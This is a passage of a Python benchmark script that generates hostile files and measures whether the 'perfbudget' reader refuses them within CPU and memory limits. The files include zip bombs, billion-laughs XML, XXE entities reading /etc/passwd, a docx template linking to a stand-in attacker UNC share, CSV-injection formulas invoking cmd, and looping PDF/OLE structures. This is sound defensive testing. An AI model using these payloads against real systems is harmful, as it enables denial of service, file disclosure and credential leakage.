"""Hostile files against every reader (hostile20): built, then each read and measured.

``.venv/bin/python bench/hostile_files.py [--only NAME] [--via load|check|web] [--dir DIR]``

Each case is built here with real libraries or by hand (zip bombs, XML entities, deep nesting, merged
ranges, PDF object streams and cross-reference loops, OLE sector loops, broken encodings, giant numbers …).

* ``--via load`` (the default) reads it with ``load_bytes`` in a fresh child process (the path of
  ``perfbudget import``, ``read`` and the web upload preview): the child's CPU (user + system) and its peak
  resident memory above what it held after its imports (``VmHWM`` less ``VmRSS`` before reading).
* ``--via check`` runs ``perfbudget read FILE`` whole (the command line's check): its CPU and peak memory
  from /usr/bin/time, the interpreter and imports included.
* ``--via web --url http://127.0.0.1:PORT --token TOKEN --pid PID`` uploads it to a running server
  (``POST /api/v1/uploads``, then its import when it was read): the server's CPU around the requests and its
  resident memory after, from /proc; another client's ``GET /api/v1/projects`` timed meanwhile.

The first error is printed. The promise (docs/security.md, hostile20): every file refused or read within
2 s of CPU and 300 MB more memory, with a located Chinese message, never a traceback.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from tests.readers import hostile_files as h  # noqa: E402
from tests.security import biff_files as biff  # noqa: E402

MB = 1024 * 1024


# --- zip containers -------------------------------------------------------------------------------------------

def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, body in members.items():
            package.writestr(name, body)
    return out.getvalue()


def _stored(data: bytes) -> bytes:
    """The same zip with every part stored (no compression ratio to refuse it by)."""
    members = _members(data)
    if "mimetype" in members:  # OpenDocument: the mimetype first
        members = {"mimetype": members.pop("mimetype"), **members}
    return _zip(members, zipfile.ZIP_STORED)


def docx_flat_bomb() -> bytes:
    """A docx whose document.xml is 1 GiB of one repeated paragraph (honest directory, deflated)."""
    members = _members(h.docx(b"<w:p/>"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, body in members.items():
            if name != "word/document.xml":
                package.writestr(name, body)
        with package.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(b'<w:document ' + h._W + b"><w:body>")
            chunk = b"<w:p/>" * (MB // 6)
            for _ in range(1024):
                part.write(chunk)
            part.write(b"</w:body></w:document>")
    return out.getvalue()


def docx_nested_zip() -> bytes:
    """A docx embedding a zip of ten zips of ten 100 MiB parts each (a nested bomb, never opened)."""
    leaf = _zip({f"{i}.bin": b"\0" * (100 * MB) for i in range(1)})
    middle = _zip({f"{i}.zip": leaf for i in range(10)})
    members = _members(h.docx(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"))
    members["word/embeddings/oleObject1.zip"] = _zip({f"{i}.zip": middle for i in range(10)})
    return _zip(members)


def docx_many_tiny_parts() -> bytes:
    """A docx of 9,990 tiny deflated XML parts (under the 10,000 parts bound)."""
    members = _members(h.docx(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"))
    for i in range(9_990):
        members[f"customXml/item{i}.xml"] = b"<a><b/><b/><b/></a>" * 50
    return _zip(members)


def xlsx_huge_shared_string() -> bytes:
    """One shared string of 30 MB (a megabyte cell, thirty times over), stored."""
    return h.xlsx_stored_part("sharedStrings.xml", "sharedStrings", "sharedStrings",
                              b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
                              + "项目".encode() * (5 * MB) + b"</t></si></sst>")


def xlsx_full_dimension_merge() -> bytes:
    """A sheet claiming A1:XFD1048576, one cell, merged over the whole sheet."""
    data = h.xlsx(b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>', "A1:XFD1048576")
    members = _members(data)
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    return _zip(members)


def xlsx_many_merges(count: int) -> bytes:
    """``count`` merged ranges of 2 × 2 cells down one sheet."""
    data = h.xlsx(b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>', "A1:B2")
    members = _members(data)
    merges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (2 * i + 1, 2 * i + 2) for i in range(count))
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", b'</sheetData><mergeCells count="%d">' % count + merges + b"</mergeCells>")
    return _zip(members)


def xlsx_sparse_far(rows: int) -> bytes:
    """Sparse cells: each row one cell at a far column, rows spread over the whole 1,048,576."""
    step = 1_048_576 // rows
    body = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c><c r="XFD%d"><v>2</v></c></row>' % (r, r, r)
                    for r in range(1, 1_048_576, step))
    return h.xlsx(body, "A1:XFD1048576")


def xlsx_million_styles() -> bytes:
    return h.xlsx_cell_formats(1_000_000)


def xlsx_formulas() -> bytes:
    """Cells holding formulas and CSV-injection text (=cmd|…, +HYPERLINK) in a target table's places."""
    rows = [("项目名称", "=cmd|' /C calc'!A0"), ("一级指标", "+HYPERLINK(\"http://x\",\"y\")"),
            ("三级指标", "@SUM(1+1)*cmd|' /C calc'!A0"), ("指标值", "-2+3+cmd|' /C calc'!A0")]
    body = b"".join(b'<row r="%d">' % r + h._inline(f"A{r}", a) + h._inline(f"B{r}", b.replace("\"", "&quot;"))
                    + b'<c r="C%d"><f>1+1</f><v>2</v></c></row>' % r for r, (a, b) in enumerate(rows, 1))
    return h.xlsx(body, "A1:C4")


# --- XML: entities, DTDs, external references, depth ---------------------------------------------------------

_LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
           + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                      for i in range(1, 10)) + b"]>")


def docx_billion_laughs() -> bytes:
    members = _members(h.docx(b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>"))
    document = members["word/document.xml"]
    start = document.index(b"?>") + 2
    members["word/document.xml"] = document[:start] + _LAUGHS.replace(b"lolz", b"w:document") + document[start:]
    return _zip(members)


def xlsx_billion_laughs() -> bytes:
    data = h.xlsx_stored_part("sharedStrings.xml", "sharedStrings", "sharedStrings",
                              _LAUGHS.replace(b"lolz", b"sst")
                              + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
                              b"&lol9;</t></si></sst>")
    members = _members(data)
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(
        b'<c r="A1"><v>1</v></c>', b'<c r="A1" t="s"><v>0</v></c>')
    return _zip(members)


def odt_billion_laughs() -> bytes:
    members = _members(h.ods(b"<table:table-row><table:table-cell><text:p>&lol9;</text:p></table:table-cell>"
                             b"</table:table-row>", spreadsheet=False))
    content = members["content.xml"]
    start = content.index(b"?>") + 2
    members["content.xml"] = content[:start] + _LAUGHS.replace(b"lolz", b"office:document-content") + content[start:]
    return _zip(members)


def docx_external_entity() -> bytes:
    """XXE: an entity naming /etc/passwd and one naming a web address, used in a table's cells."""
    body = (b"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>\xe9\xa1\xb9\xe7\x9b\xae\xe5\x90\x8d\xe7\xa7\xb0</w:t></w:r></w:p>"
            b"</w:tc><w:tc><w:p><w:r><w:t>&xxe;&web;</w:t></w:r></w:p></w:tc></w:tr></w:tbl>")
    members = _members(h.docx(body))
    document = members["word/document.xml"]
    start = document.index(b"?>") + 2
    members["word/document.xml"] = (document[:start] + b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM '
                                    b'"file:///etc/passwd"><!ENTITY web SYSTEM "http://127.0.0.1:9/x">]>'
                                    + document[start:])
    return _zip(members)


def xlsx_external_entity() -> bytes:
    data = h.xlsx_stored_part("sharedStrings.xml", "sharedStrings", "sharedStrings",
                              b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                              b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
                              b"&xxe;</t></si></sst>")
    members = _members(data)
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(
        b'<c r="A1"><v>1</v></c>', b'<c r="A1" t="s"><v>0</v></c>')
    return _zip(members)


def docx_external_links() -> bytes:
    """Relationships to outside files and addresses (an altChunk, a linked picture, a template)."""
    members = _members(h.docx(b'<w:altChunk r:id="rId7" xmlns:r="http://schemas.openxmlformats.org/'
                              b'officeDocument/2006/relationships"/><w:p/>'))
    members["word/_rels/document.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
        b'Target="file:///etc/passwd" TargetMode="External"/>'
        b'<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="http://127.0.0.1:9/a.png" TargetMode="External"/>'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="\\\\attacker\\share\\t.dotm" TargetMode="External"/></Relationships>')
    return _zip(members)


def docx_deep_nesting(depth: int) -> bytes:
    """Content controls nested ``depth`` deep around one paragraph."""
    return h.docx(b"<w:sdt><w:sdtContent>" * depth + b"<w:p/>" + b"</w:sdtContent></w:sdt>" * depth)


def docx_nested_tables(depth: int) -> bytes:
    """Tables nested ``depth`` deep, each in the one cell of the table around it."""
    return h.docx(b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * depth)


def xlsx_deep_nesting(depth: int) -> bytes:
    data = h.xlsx(b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>')
    members = _members(data)
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", b"</sheetData><extLst>" + b"<ext>" * depth + b"</ext>" * depth + b"</extLst>")
    return _zip(members)


def odt_deep_nesting(depth: int) -> bytes:
    return h.ods(b"<table:table-row><table:table-cell>" + b"<text:span>" * depth + b"x" + b"</text:span>" * depth
                 + b"</table:table-cell></table:table-row>", spreadsheet=False)


# --- Word tables ------------------------------------------------------------------------------------------------

def docx_paragraphs(count: int) -> bytes:
    return h.docx(b"<w:p><w:r><w:t>\xe9\xa1\xb9\xe7\x9b\xae</w:t></w:r></w:p>" * count)


def docx_merged_cells(count: int) -> bytes:
    """A table of ``count`` cells each spanning 2 grid columns (gridSpan), 10 a row."""
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>'
    return h.docx(b"<w:tbl>" + (b"<w:tr>" + cell * 10 + b"</w:tr>") * (count // 10) + b"</w:tbl>")


def docx_vertical_merge(rows: int, columns: int) -> bytes:
    """Every column merged vertically over ``rows`` rows (restart, then continuations)."""
    first = b"<w:tr>" + b'<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>' \
        * columns + b"</w:tr>"
    rest = b"<w:tr>" + b"<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>" * columns + b"</w:tr>"
    return h.docx(b"<w:tbl>" + first + rest * (rows - 1) + b"</w:tbl>")


def docx_megabyte_cell() -> bytes:
    return h.docx(b"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>" + "项目名称".encode() * (MB // 4) * 4
                  + b"</w:t></w:r></w:p></w:tc></w:tr></w:tbl>")


# --- PDF ----------------------------------------------------------------------------------------------------------

def pdf_object_stream_pages(pages: int) -> bytes:
    """``pages`` pages whose objects sit in a compressed object stream (PDF 1.5, an xref stream): the page
    objects' names are not in the file's text."""
    # objects: 1 catalog, 2 pages tree, 3 empty content stream (direct), 4.. pages, then objstm, then xref
    page_ids = list(range(4, 4 + pages))
    in_stream = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
                 2: b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % i for i in page_ids)
                 + b"] /Count %d >>" % pages}
    for i in page_ids:
        in_stream[i] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 3 0 R >>"
    numbers = sorted(in_stream)
    bodies, header, offset = [], [], 0
    for n in numbers:
        header.append(b"%d %d" % (n, offset))
        bodies.append(in_stream[n])
        offset += len(in_stream[n]) + 1
    head = b" ".join(header) + b"\n"
    raw = head + b"\n".join(bodies)
    packed = zlib.compress(raw, 9)
    objstm_id = 4 + pages
    xref_id = objstm_id + 1
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    content_at = out.tell()
    out.write(b"3 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n")
    objstm_at = out.tell()
    out.write(b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
              % (objstm_id, len(numbers), len(head), len(packed)) + packed + b"\nendstream\nendobj\n")
    xref_at = out.tell()
    entries = [struct.pack(">BIH", 0, 0, 65535)]
    index = {n: i for i, n in enumerate(numbers)}
    for n in range(1, xref_id + 1):
        if n == 3:
            entries.append(struct.pack(">BIH", 1, content_at, 0))
        elif n == objstm_id:
            entries.append(struct.pack(">BIH", 1, objstm_at, 0))
        elif n == xref_id:
            entries.append(struct.pack(">BIH", 1, xref_at, 0))
        else:
            entries.append(struct.pack(">BIH", 2, objstm_id, index[n]))
    table = zlib.compress(b"".join(entries), 9)
    out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
              b"stream\n" % (xref_id, xref_id + 1, len(table)) + table + b"\nendstream\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def pdf_pages_tree_loop() -> bytes:
    """A page tree whose Kids name the tree itself and its parent."""
    return h.pdf_file([b"<< /Type /Catalog /Pages 2 0 R >>",
                         b"<< /Type /Pages /Kids [2 0 R 3 0 R 1 0 R] /Count 3 >>",
                         b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"], 1)


def pdf_prev_loop() -> bytes:
    """A cross-reference table whose /Prev names itself."""
    return h.pdf_file([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"], 1,
                        prev_loop=True)


def pdf_no_xref_many_objects(count: int) -> bytes:
    """No cross-reference table: pdfminer's fallback scans every line for objects."""
    return b"%PDF-1.4\n" + b"".join(b"%d 0 obj\n<< /A %d >>\nendobj\n" % (i, i) for i in range(1, count)) \
        + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def pdf_deep_arrays(depth: int) -> bytes:
    """A page whose content is ``depth`` nested arrays."""
    return h.pdf([b"[" * depth + b"]" * depth])


def pdf_huge_font_widths() -> bytes:
    """A font whose /Widths array holds 2,000,000 numbers, used by a page drawing one character."""
    widths = b"[" + b"500 " * 2_000_000 + b"]"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> >>",
               b"<< /Length 24 >>\nstream\nBT /F1 12 Tf (a) Tj ET\n\nendstream",
               b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 1999999 /Widths 6 0 R >>",
               widths]
    return h.pdf_file(objects, 1)


def pdf_many_fonts(count: int) -> bytes:
    """One page selecting ``count`` different fonts in turn."""
    fonts = b" ".join(b"/F%d 3 0 R" % i for i in range(count))
    content = b"BT " + b"".join(b"/F%d 12 Tf (a) Tj " % i for i in range(count)) + b"ET"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R /Resources << /Font << "
               + fonts + b" >> >> >>",
               b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"]
    return h.pdf_file(objects, 1)


def pdf_objstm_self() -> bytes:
    """An object stream said (by the xref stream) to lie inside itself."""
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    entries = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 2, 2, 0), struct.pack(">BIH", 2, 2, 1)]
    xref_at = out.tell()
    table = b"".join(entries) + struct.pack(">BIH", 1, xref_at, 0)
    out.write(b"3 0 obj\n<< /Type /XRef /Size 4 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
              + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


# --- HTML, text, JSON -------------------------------------------------------------------------------------------

def html_nested_tags(count: int) -> bytes:
    return b"<html><body>" + b"<div>" * count + b"x" + b"</div>" * count + b"</body></html>"


def html_nested_unclosed_inline(count: int) -> bytes:
    return b"<html><body>" + b"<b><i>" * (count // 2) + b"x</body></html>"


def html_huge_attribute() -> bytes:
    return (b'<html><body><table><tr><td title="' + b"a" * (40 * MB) + b'">\xe9\xa1\xb9</td></tr></table>'
            b"</body></html>")


def html_many_attributes() -> bytes:
    return b"<html><body><table><tr><td " + b" ".join(b"a%d=1" % i for i in range(3_000_000)) \
        + b">x</td></tr></table></body></html>"


def text_megabyte_cells() -> bytes:
    """A tab table whose cells are 1 MB each."""
    cell = "项目".encode() * (MB // 6)
    return b"\n".join(b"\t".join([cell] * 4) for _ in range(10))


def text_mixed_encodings() -> bytes:
    """UTF-8 lines and GB18030 lines alternating (a file pasted from two sources)."""
    return ("项目名称\t测试\n".encode() + "一级指标\t产出指标\n".encode("gb18030")) * 200_000


def text_invalid_gb18030() -> bytes:
    """Bytes that are neither UTF-8 nor GB18030 (0x81 0x30 lead pairs never finished), 40 MB."""
    return ("项目".encode("gb18030") + b"\x81\x30\x81\x0a") * (40 * MB // 8)


def text_utf16_no_bom() -> bytes:
    return ("项目名称\t测试\n一级指标\t产出指标\n" * 900_000).encode("utf-16-le")


def text_utf16_odd() -> bytes:
    """UTF-16 without a mark and an odd number of bytes, a lone surrogate in the middle."""
    return "项目名称\t测试\n".encode("utf-16-le") * 100_000 + b"\x00\xd8a" + b"\x00"


def text_nul_lines() -> bytes:
    return b"\x00" * (40 * MB)


def _seed_json() -> dict:
    """The seed table (examples/) as an interchange document, written by perfbudget itself."""
    from perfbudget.interchange import document_to_dict
    from perfbudget.load import load_path

    document = load_path(ROOT / "examples" / "000_e2047472f0d7711d.txt").document
    assert document is not None
    return document_to_dict(document)


def json_giant_number(text: str, as_string: bool = True) -> Callable[[], bytes]:
    """The seed's first project with ``text`` as its budget (a string, as the format writes amounts, or a
    bare JSON number)."""
    def make() -> bytes:
        document = _seed_json()
        marker = "@@NUMBER@@"
        document["projects"][0]["budget"]["total"] = marker
        return json.dumps(document, ensure_ascii=False).replace(
            f'"{marker}"', f'"{text}"' if as_string else text).encode()
    return make


def json_many_indicators(count: int) -> bytes:
    """The seed's first project with ``count`` indicators (copies of its first)."""
    document = _seed_json()
    project = document["projects"][0]
    project["indicators"] = [project["indicators"][0]] * count
    document["projects"] = [project]
    return json.dumps(document, ensure_ascii=False, separators=(",", ":")).encode()


def json_long_string() -> bytes:
    """The seed's first project with a purpose of 40 MB."""
    document = _seed_json()
    document["projects"][0]["purpose"] = "目标" * (20 * MB // 3)
    return json.dumps(document, ensure_ascii=False).encode()


def json_deep_objects() -> bytes:
    return b'{"format": "perfbudget/1", "projects": [' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"]}"


# --- OLE ------------------------------------------------------------------------------------------------------------

def _ole_with_fat(fat_loop: bool, directory_loop: bool, name: str = "Workbook") -> bytes:
    data = bytearray(biff.workbook(biff.number_rows(10, 4)) if name == "Workbook"
                     else biff.compound_file(name, b"\xec\xa5" + b"\0" * 4000))
    # header: first FAT sector id at 76; FAT sector comes after the data sectors
    fat_sector = struct.unpack_from("<I", data, 76)[0]
    fat_at = 512 + fat_sector * 512
    if fat_loop:  # the stream's chain (starting at sector 1) loops back to its start
        struct.pack_into("<I", data, fat_at + 4 * 2, 1)
    if directory_loop:  # the directory's chain (sector 0) names itself
        struct.pack_into("<I", data, fat_at, 0)
    return bytes(data)


def xls_sst_claims() -> bytes:
    """An SST record claiming 2^31 strings with CONTINUE records of nothing."""
    sst = biff.record(0x00FC, struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFFF))
    return biff.workbook(biff.number_rows(2, 2), more_globals=sst + biff.record(0x003C) * 10_000)


# --- the registry -------------------------------------------------------------------------------------------------

CASES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "zip: docx flat bomb 1 GiB": ("flat.docx", docx_flat_bomb),
    "zip: docx nested zips (10 GiB inside)": ("nested.docx", docx_nested_zip),
    "zip: docx 9,990 tiny parts": ("tiny.docx", docx_many_tiny_parts),
    "zip: docx 550k empty parts": ("parts.docx", lambda: h.zip_many_parts(
        550_000, {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})),
    "xlsx: one 30 MB shared string": ("bigstring.xlsx", xlsx_huge_shared_string),
    "xlsx: 1.8M shared strings": ("strings.xlsx", lambda: h.xlsx_shared_strings(1_800_000)),
    "xlsx: dimension XFD1048576, one merge over all": ("mergeall.xlsx", xlsx_full_dimension_merge),
    "xlsx: 100k merged ranges": ("merges.xlsx", lambda: xlsx_many_merges(100_000)),
    "xlsx: 900k merged ranges": ("merges900k.xlsx", lambda: xlsx_many_merges(900_000)),
    "xlsx: sparse cells over 1,048,576 rows": ("sparse.xlsx", lambda: xlsx_sparse_far(20_000)),
    "xlsx: styles.xml of 1M cell formats": ("styles.xlsx", xlsx_million_styles),
    "xlsx: formulas and =cmd| text": ("formulas.xlsx", xlsx_formulas),
    "xml: docx billion laughs": ("laughs.docx", docx_billion_laughs),
    "xml: xlsx billion laughs": ("laughs.xlsx", xlsx_billion_laughs),
    "xml: odt billion laughs": ("laughs.odt", odt_billion_laughs),
    "xml: docx external entity (XXE)": ("xxe.docx", docx_external_entity),
    "xml: xlsx external entity (XXE)": ("xxe.xlsx", xlsx_external_entity),
    "xml: docx external links": ("links.docx", docx_external_links),
    "xml: docx 100k nested content controls (stored)": ("deep.docx", lambda: _stored(docx_deep_nesting(100_000))),
    "xml: docx tables nested 5,000 deep": ("deeptables.docx", lambda: docx_nested_tables(5_000)),
    "xml: xlsx 100k nested elements (stored)": ("deep.xlsx", lambda: _stored(xlsx_deep_nesting(100_000))),
    "xml: odt 100k nested spans (stored)": ("deep.odt", lambda: _stored(odt_deep_nesting(100_000))),
    "docx: 99,000 paragraphs (stored)": ("paras.docx", lambda: _stored(docx_paragraphs(99_000))),
    "docx: 10k merged cells": ("merged.docx", lambda: docx_merged_cells(10_000)),
    "docx: vertical merge 10,000 rows x 14": ("vmerge.docx", lambda: docx_vertical_merge(10_000, 14)),
    "docx: one 12 MB cell (stored)": ("bigcell.docx", lambda: _stored(docx_megabyte_cell())),
    "pdf: 10,000 pages in an object stream": ("objstm.pdf", lambda: pdf_object_stream_pages(10_000)),
    "pdf: 1,900 pages in an object stream": ("objstm1900.pdf", lambda: pdf_object_stream_pages(1_900)),
    "pdf: page tree loop": ("treeloop.pdf", pdf_pages_tree_loop),
    "pdf: xref /Prev loop": ("prevloop.pdf", pdf_prev_loop),
    "pdf: object stream inside itself": ("objstmself.pdf", pdf_objstm_self),
    "pdf: no xref, 1M objects": ("noxref.pdf", lambda: pdf_no_xref_many_objects(1_000_000)),
    "pdf: content of 100k nested arrays": ("arrays.pdf", lambda: pdf_deep_arrays(100_000)),
    "pdf: font /Widths of 2M numbers": ("widths.pdf", pdf_huge_font_widths),
    "pdf: 5,000 font selections": ("fonts.pdf", lambda: pdf_many_fonts(5_000)),
    "pdf: stream bomb 300 MiB": ("bomb.pdf", lambda: h.pdf_stream_bomb(300)),
    "html: 100k nested divs": ("nested.html", lambda: html_nested_tags(100_000)),
    "html: 100k unclosed inline tags": ("inline.html", lambda: html_nested_unclosed_inline(100_000)),
    "html: one 40 MB attribute": ("attr.html", html_huge_attribute),
    "html: 3M attributes on a cell": ("attrs.html", html_many_attributes),
    "text: one 40 MB line": ("line.txt", lambda: b"x" * (40 * MB)),
    "text: 10 lines of four 1 MB tab cells": ("cells.txt", text_megabyte_cells),
    "text: UTF-8 and GB18030 lines mixed": ("mixed.txt", text_mixed_encodings),
    "text: invalid GB18030 40 MB": ("badgb.txt", text_invalid_gb18030),
    "text: UTF-16 without BOM 32 MB": ("utf16.txt", text_utf16_no_bom),
    "text: UTF-16 odd length, lone surrogate": ("utf16odd.txt", text_utf16_odd),
    "text: 40 MB of NUL": ("nul.txt", text_nul_lines),
    "json: budget 1e999999": ("e999999.json", json_giant_number("1e999999")),
    "json: budget 1e9999999999": ("e9999999999.json", json_giant_number("1e9999999999")),
    "json: budget 1e-999999": ("eneg.json", json_giant_number("1e-999999")),
    "json: budget of 1,000,000 digits": ("digitstr.json", json_giant_number("9" * 1_000_000)),
    "json: a bare number of 1,000,000 digits": ("digits.json", json_giant_number("9" * 1_000_000, False)),
    "json: 1,000 indicators": ("indicators1k.json", lambda: json_many_indicators(1_000)),
    "json: 200k indicators": ("indicators.json", lambda: json_many_indicators(200_000)),
    "json: 1M indicators": ("indicators1m.json", lambda: json_many_indicators(1_000_000)),
    "json: 100k nested objects": ("deep.json", json_deep_objects),
    "json: a purpose of 40 MB": ("string.json", json_long_string),
    "ole: xls with a FAT loop": ("fatloop.xls", lambda: _ole_with_fat(True, False)),
    "ole: xls with a directory loop": ("dirloop.xls", lambda: _ole_with_fat(False, True)),
    "ole: doc with a FAT loop": ("fatloop.doc", lambda: _ole_with_fat(True, False, "WordDocument")),
    "xls: SST claiming 2^31 strings": ("sst.xls", xls_sst_claims),
}

_CHILD = """
import json, resource, sys
from pathlib import Path
data = Path(sys.argv[1]).read_bytes()
import perfbudget.load  # imports are not the reader's cost
def status(key):
    return next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith(key + ":"))
base = status("VmRSS")
before = resource.getrusage(resource.RUSAGE_SELF)
try:
    result = perfbudget.load.load_bytes(data, sys.argv[2])
    errors = result.errors
    outcome = (f"{errors[0].source.describe() if hasattr(errors[0].source, 'describe') else ''} "
               + errors[0].message) if errors else (
        f"read: {len(result.document.projects)} projects" if result.document else "nothing read")
except BaseException as exc:
    outcome = f"CRASH {type(exc).__name__}: {str(exc)[:100]}"
after = resource.getrusage(resource.RUSAGE_SELF)
cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
print(json.dumps({"cpu": cpu, "extra_mb": (status("VmHWM") - base) / 1024, "outcome": outcome},
                 ensure_ascii=False))
"""


def _measure_load(path: Path, name: str) -> tuple[float, float, str]:
    done = subprocess.run([sys.executable, "-c", _CHILD, str(path), name], capture_output=True, text=True,
                          timeout=900)
    if done.returncode != 0:
        return 0.0, 0.0, f"CRASH (exit {done.returncode}): {done.stderr.strip()[-150:]}"
    result = json.loads(done.stdout.strip().splitlines()[-1])
    return result["cpu"], result["extra_mb"], result["outcome"]


def _check(path: Path) -> tuple[float, float, str]:
    """``perfbudget read FILE``: CPU and peak RSS of the command (interpreter and imports included), measured by
    /usr/bin/time (``wait4`` of a child forked from this process would count this process's memory too)."""
    program = Path(sys.executable).parent / "perfbudget"
    done = subprocess.run(["/usr/bin/time", "-f", "HOSTILE20 %U %S %M", str(program), "read", str(path)],
                          capture_output=True, timeout=900)
    lines = [line for out in (done.stdout, done.stderr) for line in out.decode("utf-8", "replace").splitlines()
             if line.strip()]
    user, system, peak = next(line for line in reversed(lines) if line.startswith("HOSTILE20 ")).split()[1:]
    lines = [line for line in lines if not line.startswith(("HOSTILE20 ", "Command exited"))]
    first = next((line for line in lines if "错误" in line), lines[0] if lines else "")
    if any("Traceback" in line for line in lines):
        first = "CRASH " + lines[-1]
    return float(user) + float(system), int(peak) / 1024, f"exit {done.returncode}: {first[:110]}"


def _server_cpu(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _server_memory(pid: int, key: str) -> float:
    return next(int(line.split()[1]) for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                if line.startswith(key + ":")) / 1024


def _web(path: Path, url: str, token: str, pid: int) -> tuple[float, float, str]:
    """``POST /api/v1/uploads`` of the file (the web's preview), then its import when it was read: the server's
    CPU around the requests, its resident memory after (MB), the answer, and the slowest answer to another
    client's ``GET /api/v1/projects`` meanwhile."""
    import threading
    import urllib.error
    import urllib.request

    def call(method: str, address: str, body: bytes | None = None, kind: str = "") -> tuple[int, dict]:
        request = urllib.request.Request(url + address, data=body, method=method,
                                         headers={"Authorization": f"Bearer {token}",
                                                  **({"Content-Type": kind} if kind else {})})
        try:
            with urllib.request.urlopen(request, timeout=600) as answer:
                return answer.status, json.loads(answer.read() or b"{}")
        except urllib.error.HTTPError as error:
            return error.code, json.loads(error.read() or b"{}")
        except urllib.error.URLError as error:  # a body past the limit: the server answers 413 and closes
            return 0, {"error": {"message": f"connection closed: {error.reason}"}}

    slowest = [0.0]
